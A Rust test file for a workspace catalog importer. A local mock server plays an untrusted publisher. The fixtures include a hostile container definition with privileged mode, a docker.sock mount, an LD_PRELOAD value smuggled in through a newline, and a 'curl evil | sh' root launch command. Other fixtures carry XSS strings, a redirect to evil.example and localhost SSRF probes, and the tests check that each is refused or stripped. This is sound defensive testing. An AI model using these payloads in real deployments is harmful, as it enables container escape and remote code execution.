//! Stories of catalogs: workspaces that somebody else publishes, looked through, looked at, and taken.

#![allow(clippy::unwrap_used, reason = "a failed expectation ends a story")]

mod world;

use domain::{
    Error, ErrorKind,
    actor::{Actor, Role},
    list::ListQuery,
    workspace::{Catalog, CatalogLook, DefinitionFate, Workspace, WorkspaceForm},
};
use std::{
    collections::HashMap,
    sync::{Arc, Mutex},
};
use tokio::{
    io::{AsyncReadExt, AsyncWriteExt},
    net::TcpListener,
    task::JoinSet,
};
use world::World;

/// Status, further heads and body, by path.
type Pages = Arc<Mutex<HashMap<String, (u16, String, String)>>>;

/// A web server with a catalog, as somebody else has it.
struct Publisher {
    url: String,
    pages: Pages,
    asked: Arc<Mutex<Vec<String>>>,
    _background: JoinSet<()>,
}

impl Publisher {
    async fn start() -> Self {
        let listener = TcpListener::bind("127.0.0.1:0").await.unwrap();
        let url = format!("http://localhost:{}/registry", listener.local_addr().unwrap().port());
        let pages = Pages::default();
        let asked: Arc<Mutex<Vec<String>>> = Arc::default();
        let (served, noted) = (pages.clone(), asked.clone());
        let mut background = JoinSet::new();
        background.spawn(async move {
            while let Ok((mut stream, _)) = listener.accept().await {
                let mut head = vec![0; 4096];
                let read = stream.read(&mut head).await.unwrap_or(0);
                let head = String::from_utf8_lossy(&head[..read]).into_owned();
                let path = head.split(' ').nth(1).unwrap_or_default().to_owned();
                noted.lock().unwrap().push(path.clone());
                let known = served.lock().unwrap().get(&path).cloned();
                let (status, heads, body) = known.unwrap_or((404, String::new(), String::new()));
                let length = body.len();
                let answer = format!(
                    "HTTP/1.1 {status} X\r\n{heads}Content-Length: {length}\r\nConnection: close\r\n\r\n{body}"
                );
                let _ = stream.write_all(answer.as_bytes()).await;
            }
        });
        let publisher = Self { url, pages, asked, _background: background };
        publisher.page("versions.txt", "1.0\n1.1\n");
        publisher
    }

    fn answer(&self, path: &str, status: u16, heads: &str, body: &str) {
        let page = (status, heads.to_owned(), body.to_owned());
        self.pages.lock().unwrap().insert(format!("/registry/{path}"), page);
    }

    fn page(&self, path: &str, body: &str) {
        self.answer(path, 200, "", body);
    }

    fn list(&self, entries: &[&str]) {
        let all = entries.join(",");
        let text = format!(
            r#"{{"name": "Theirs", "description": "<b>Ours</b>", "contact_url": "javascript:alert(1)",
                "workspacecount": 1, "workspaces": [{all}], "channels": ["develop"]}}"#
        );
        self.page("1.1/list.json", &text);
    }

    fn was_asked(&self) -> usize {
        self.asked.lock().unwrap().len()
    }
}

fn entry(name: &str, image: &str, rest: &str) -> String {
    format!(
        r#"{{"friendly_name": "{name}", "description": "A browser.", "image_src": "a.png",
            "architecture": ["amd64"], "categories": ["Browser"], "memory": 1024, "cores": 1,
            "compatibility": [{{"version": "1.17.x", "image": "{image}"}}] {rest}}}"#
    )
}

const HOSTILE: &str = r#", "run_config": {"privileged": true, "network_mode": "host", "cap_add": ["ALL"],
    "devices": ["/dev/kvm"], "environment": {"GOOD": "yes", "BAD": "x\nLD_PRELOAD=/evil"}},
    "volume_mappings": {"/var/run/docker.sock": {"bind": "/var/run/docker.sock"}},
    "exec_config": {"first_launch": {"cmd": "curl evil | sh", "user": "root"}}, "enabled": true,
    "groups": ["everybody"], "gpu_count": 1"#;

async fn scene() -> (World, Actor, Publisher) {
    let world = World::with(|settings| settings.catalog_private = true).await;
    let admin = world.admin().await;
    (world, admin, Publisher::start().await)
}

async fn catalog(world: &World, admin: &Actor, publisher: &Publisher) -> Catalog {
    world.services.workspaces.catalog(admin, &publisher.url).await.unwrap()
}

async fn look(
    world: &World,
    admin: &Actor,
    url: &str,
    picks: &[&str],
) -> Result<CatalogLook, Error> {
    let picks: Vec<String> = picks.iter().map(|pick| (*pick).to_owned()).collect();
    world.services.workspaces.look_at_catalog(admin, url, &picks).await
}

async fn save(world: &World, admin: &Actor, look: &CatalogLook) -> (u32, u32, u32) {
    let workspaces = &world.services.workspaces;
    let done = workspaces.import_catalog(admin, &look.url, &look.text, &look.report.seen).await;
    let done = done.unwrap();
    (done.new, done.changed, done.unchanged)
}

async fn named(world: &World, name: &str) -> Workspace {
    let all = world.store.all_workspaces().await.unwrap();
    all.into_iter().find(|one| one.definition.name == name).unwrap()
}

fn fates(catalog: &Catalog) -> Vec<(&str, DefinitionFate)> {
    catalog.entries.iter().map(|entry| (entry.name.as_str(), entry.fate)).collect()
}

async fn why(world: &World, admin: &Actor, url: &str) -> String {
    let refused = world.services.workspaces.catalog(admin, url).await.unwrap_err();
    assert_eq!(refused.kind, ErrorKind::Invalid, "{refused:?}");
    let said = refused.problem_at("url").unwrap().to_owned();
    format!("{said} {}", refused.hint.unwrap_or_default())
}

#[tokio::test]
async fn what_is_chosen_is_looked_at_and_saved_as_it_was_seen() {
    let (world, admin, publisher) = scene().await;
    publisher.list(&[
        &entry("Firefox", "kasmweb/firefox:1.17.0", ""),
        &entry("Chrome", "kasmweb/chrome:1.17.0", ""),
    ]);
    let shown = catalog(&world, &admin, &publisher).await;
    assert_eq!(fates(&shown), [("Firefox", DefinitionFate::New), ("Chrome", DefinitionFate::New)]);
    assert_eq!(shown.entries[0].image, "kasmweb/firefox:1.17.0");
    assert_eq!(shown.entries[0].facts, ["Browser", "amd64"]);

    let looked = look(&world, &admin, &publisher.url, &["Firefox"]).await.unwrap();
    let [only] = looked.report.entries.as_slice() else { panic!("{looked:?}") };
    assert_eq!((only.name.as_str(), only.fate), ("Firefox", DefinitionFate::New));
    assert!(only.changes.iter().any(|change| change.field == "memory" && change.after == "1 GiB"));
    assert!(only.notes.iter().any(|note| note.contains("not fetched")), "{:?}", only.notes);
    assert!(world.store.all_workspaces().await.unwrap().is_empty(), "a look saves nothing");

    // What the catalog says by now does not matter.
    publisher.list(&[&entry("Firefox", "evil/firefox:1", "")]);
    let asked = publisher.was_asked();
    assert_eq!(save(&world, &admin, &looked).await, (1, 0, 0));
    assert_eq!(publisher.was_asked(), asked);
    let made = named(&world, "Firefox").await.definition;
    assert_eq!(made.image.to_string(), "kasmweb/firefox:1.17.0");
    assert!(!made.enabled && made.contract.port == 6901);
}

#[tokio::test]
async fn the_same_taken_twice_is_nothing_and_a_changed_entry_shows_the_difference() {
    let (world, admin, publisher) = scene().await;
    publisher.list(&[&entry("Firefox", "kasmweb/firefox:1.17.0", "")]);
    let looked = look(&world, &admin, &publisher.url, &["Firefox"]).await.unwrap();
    save(&world, &admin, &looked).await;
    let before = named(&world, "Firefox").await;

    let shown = catalog(&world, &admin, &publisher).await;
    assert_eq!(fates(&shown), [("Firefox", DefinitionFate::Unchanged)]);
    let again = look(&world, &admin, &publisher.url, &["Firefox"]).await.unwrap();
    assert!(!again.report.can_be_saved());
    assert_eq!(save(&world, &admin, &again).await, (0, 0, 1));
    assert_eq!(named(&world, "Firefox").await, before);

    // It is somebody's now: what the catalog says nothing of stays.
    let form = WorkspaceForm {
        enabled: "on".into(),
        groups: vec!["everybody".into()],
        pids: "64".into(),
        ..WorkspaceForm::from(&before.definition)
    };
    let workspaces = &world.services.workspaces;
    workspaces.change(&admin, &before.id, before.revision, &form).await.unwrap();
    publisher.list(&[&entry("Firefox", "kasmweb/firefox:1.18.0", "")]);
    let shown = catalog(&world, &admin, &publisher).await;
    assert_eq!(fates(&shown), [("Firefox", DefinitionFate::Changed)]);
    let looked = look(&world, &admin, &publisher.url, &["Firefox"]).await.unwrap();
    let changes = &looked.report.entries[0].changes;
    let changes: Vec<(&str, &str, &str)> =
        changes.iter().map(|c| (c.field.as_str(), c.before.as_str(), c.after.as_str())).collect();
    assert_eq!(
        changes,
        [
            ("image", "kasmweb/firefox:1.17.0", "kasmweb/firefox:1.18.0"),
            ("enabled", "true", "false"),
        ]
    );
    assert_eq!(save(&world, &admin, &looked).await, (0, 1, 0));
    let now = named(&world, "Firefox").await.definition;
    assert_eq!((now.enabled, now.pids, now.groups.len()), (false, 64, 1));
}

#[tokio::test]
async fn what_was_not_seen_is_not_saved() {
    let (world, admin, publisher) = scene().await;
    publisher.list(&[&entry("Desktop", "kasmweb/desktop:1.17.0", "")]);
    let looked = look(&world, &admin, &publisher.url, &["Desktop"]).await.unwrap();
    // Somebody makes one of that name meanwhile.
    world.workspace(&admin).await;
    let workspaces = &world.services.workspaces;
    let seen = &looked.report.seen;
    let (url, text) = (&looked.url, &looked.text);
    for seen in [seen.as_str(), ""] {
        let refused = workspaces.import_catalog(&admin, url, text, seen).await.unwrap_err();
        assert_eq!(refused.kind, ErrorKind::Conflict);
    }
    let refused =
        workspaces.import_catalog(&admin, "ftp://a.example", text, seen).await.unwrap_err();
    assert!(refused.problem_at("url").is_some(), "{refused:?}");
    assert_eq!(named(&world, "Desktop").await.definition.image.to_string(), world::IMAGE);
}

#[tokio::test]
async fn a_hostile_entry_comes_out_harmless_and_says_what_was_left_out() {
    let (world, admin, publisher) = scene().await;
    publisher.list(&[
        &entry("<script>alert(1)</script>", "a/b:1", ""),
        &entry("Trap", "arm/trap:1", "").replace("amd64", "arm64"),
        &entry("Trap", "evil/trap:1", HOSTILE),
        &entry("Trap", "evil/other:1", ""),
        &entry("Arm", "a/b:1", "").replace("amd64", "arm64"),
        r#"{"friendly_name": "Nothing"}"#,
        "7",
    ]);
    let shown = catalog(&world, &admin, &publisher).await;
    let refused = DefinitionFate::Refused;
    assert_eq!(
        fates(&shown),
        [
            ("<script>alert(1)</script>", refused),
            ("Trap", DefinitionFate::New),
            ("Trap", refused),
            ("Nothing", refused),
            ("(without a name)", refused),
        ]
    );
    let problem = |at: usize| shown.entries[at].problems.join("\n");
    assert!(problem(0).contains("HTML") && problem(2).contains("twice"), "{shown:?}");
    assert_eq!((shown.elsewhere, shown.contact.as_str()), (2, "javascript:alert(1)"));

    let looked = look(&world, &admin, &publisher.url, &["Trap"]).await.unwrap();
    let notes = looked.report.entries[0].notes.join("\n");
    for part in [
        "`privileged: true` is not taken over",
        "`network_mode: host` is not taken over",
        "`devices:",
        "`cap_add:",
        "The host mount `/var/run/docker.sock:/var/run/docker.sock` is not taken over.",
        "curl evil",
        "`gpu_count: 1`",
        "The variable `BAD`",
        "`enabled`, `groups`",
    ] {
        assert!(notes.contains(part), "{part} is not told: {notes}");
    }
    save(&world, &admin, &looked).await;
    let noted = world.services.audit.page(&admin, &ListQuery::default()).await.unwrap();
    let noted = noted.rows.iter().find(|line| line.action == "workspace.import_catalog").unwrap();
    assert_eq!(noted.target, "Trap");
    assert!(noted.detail.as_ref().unwrap().ends_with(&format!(" from {}", publisher.url)));
    let made = named(&world, "Trap").await.definition;
    assert_eq!(made.weakened(), Vec::<String>::new());
    assert_eq!(made.environment, [("GOOD".to_owned(), "yes".to_owned())]);
    assert_eq!(made.image.to_string(), "evil/trap:1");
    assert!(!made.enabled && made.commands == domain::commands::Commands::default());
    let ada = world.user().await;
    assert!(world.services.launcher.page(&ada, "", "").await.unwrap().tiles.is_empty());

    for (picks, part) in [
        (&["<script>alert(1)</script>"][..], "cannot be taken"),
        (&["Nobody"], "has no “Nobody” (any more)"),
        (&["Arm"], "has no “Arm” (any more)"),
        (&[], "Tick what is to be taken"),
    ] {
        let refused = look(&world, &admin, &publisher.url, picks).await.unwrap_err();
        assert!(refused.problem_at("pick").unwrap().contains(part), "{refused:?}");
    }
}

#[tokio::test]
async fn a_workspace_that_is_here_is_not_given_to_another_image_because_of_its_name() {
    let (world, admin, publisher) = scene().await;
    let id = world.workspace(&admin).await;
    let form = WorkspaceForm {
        environment: "DB_PASSWORD=secret".into(),
        capabilities: "CHOWN".into(),
        ..world.form()
    };
    world.services.workspaces.change(&admin, &id, 1, &form).await.unwrap();
    let before = named(&world, "Desktop").await;
    let own = before.definition.image.canonical_repository();
    for (image, part) in [
        ("evil/desktop:1", "with another image, "),
        (format!("{own}:2").as_str(), "less confined here than usual"),
    ] {
        publisher.list(&[&entry("Desktop", image, "")]);
        let shown = catalog(&world, &admin, &publisher).await;
        assert_eq!(fates(&shown), [("Desktop", DefinitionFate::Refused)]);
        assert!(shown.entries[0].problems[0].contains(part), "{shown:?}");
        let refused = look(&world, &admin, &publisher.url, &["Desktop"]).await.unwrap_err();
        assert!(refused.problem_at("pick").unwrap().contains(part), "{refused:?}");
    }
    assert_eq!(named(&world, "Desktop").await, before);
}

#[tokio::test]
async fn a_contact_that_is_too_long_to_be_shown_whole_is_not_shown() {
    let (world, admin, publisher) = scene().await;
    let contact = |length: usize| format!("https://a.example/{}", "x".repeat(length));
    for (length, shown) in [(200, contact(200)), (300, String::new())] {
        let text = format!(r#"{{"contact_url": "{}", "workspaces": []}}"#, contact(length));
        publisher.page("1.1/list.json", &text);
        assert_eq!(catalog(&world, &admin, &publisher).await.contact, shown);
    }
}

#[tokio::test]
async fn both_versions_are_read_and_the_newest_that_is_understood() {
    let (world, admin, publisher) = scene().await;
    let old = r#"{"workspaces": [{"friendly_name": "Old", "name": "a/old:1"}]}"#;
    publisher.page("versions.txt", "1.0\n2.0\n");
    publisher.page("1.0/list.json", old);
    assert_eq!(fates(&catalog(&world, &admin, &publisher).await), [("Old", DefinitionFate::New)]);
    publisher.answer("versions.txt", 404, "", "");
    publisher.page("versions.json", r#"{"versions": ["1.0", "1.1"]}"#);
    publisher.list(&[&entry("New", "a/new:1", "")]);
    let with_slash = format!("{}/", publisher.url);
    let shown = world.services.workspaces.catalog(&admin, &with_slash).await.unwrap();
    assert_eq!(fates(&shown), [("New", DefinitionFate::New)]);
}

#[tokio::test]
async fn what_cannot_be_read_says_so_at_the_address() {
    let (world, admin, publisher) = scene().await;
    let url = publisher.url.as_str();
    for (address, part) in [
        ("ftp://a.example", "begins with https://"),
        ("javascript:alert(1)", "begins with https://"),
        ("https://ada:pw@a.example", "no user name"),
        ("https://a.example/?x=1", "without ? and #"),
        ("", "Give the address"),
    ] {
        assert!(why(&world, &admin, address).await.contains(part), "{address}");
    }
    publisher.page("versions.txt", "9.9");
    assert!(why(&world, &admin, url).await.contains("Understood are 1.1 and 1.0"));
    publisher.page("versions.txt", "1.1");
    assert!(why(&world, &admin, url).await.contains("There is no list at"));
    publisher.page("1.1/list.json", "<!DOCTYPE html>");
    assert!(why(&world, &admin, url).await.contains("as JSON"));
    publisher.page("1.1/list.json", &" ".repeat((4 << 20) + 1));
    assert!(why(&world, &admin, url).await.contains("4096 KiB"));
    publisher.answer("1.1/list.json", 302, "Location: https://evil.example/list.json\r\n", "");
    let told = why(&world, &admin, url).await;
    assert!(told.contains("leads on to evil.example, which is not followed"), "{told}");
    publisher.page("versions.txt", &"1.1\n".repeat(20_000));
    assert!(why(&world, &admin, url).await.contains("64 KiB"));
    publisher.answer("versions.txt", 404, "", "");
    assert!(why(&world, &admin, url).await.contains("no `versions.txt`"));
    assert!(why(&world, &admin, "http://localhost:1").await.contains("Nothing listens"));
}

#[tokio::test]
async fn a_private_address_is_not_asked_unless_the_setting_says_so() {
    let world = World::new().await;
    let admin = world.admin().await;
    let publisher = Publisher::start().await;
    publisher.list(&[&entry("Firefox", "kasmweb/firefox:1.17.0", "")]);
    let port = publisher.url.rsplit_once(':').unwrap().1;
    for host in ["localhost", "127.0.0.1", "[::ffff:127.0.0.1]"] {
        let told = why(&world, &admin, &format!("http://{host}:{port}")).await;
        assert!(told.contains("no public address") && told.contains("catalog_private"), "{told}");
    }
    assert_eq!(publisher.was_asked(), 0);
    let world = world.restarted_with(|settings| settings.catalog_private = true).await;
    assert_eq!(catalog(&world, &admin, &publisher).await.entries.len(), 1);
}

#[tokio::test]
async fn who_may_not_manage_workspaces_has_nothing_fetched() {
    let (world, _, publisher) = scene().await;
    for role in Role::ALL.into_iter().filter(|role| *role != Role::Administrator) {
        let person = world.person(role.as_str(), role).await;
        if person.may(domain::actor::Permission::ManageWorkspaces) {
            continue;
        }
        let workspaces = &world.services.workspaces;
        let url = &publisher.url;
        let refused = [
            workspaces.catalog(&person, url).await.err(),
            workspaces.look_at_catalog(&person, url, &["X".to_owned()]).await.err(),
            workspaces.import_catalog(&person, url, "version: 1", "0").await.err(),
        ];
        for refused in refused {
            assert_eq!(refused.unwrap().kind, ErrorKind::Forbidden, "{role:?}");
        }
    }
    assert_eq!(publisher.was_asked(), 0);
}
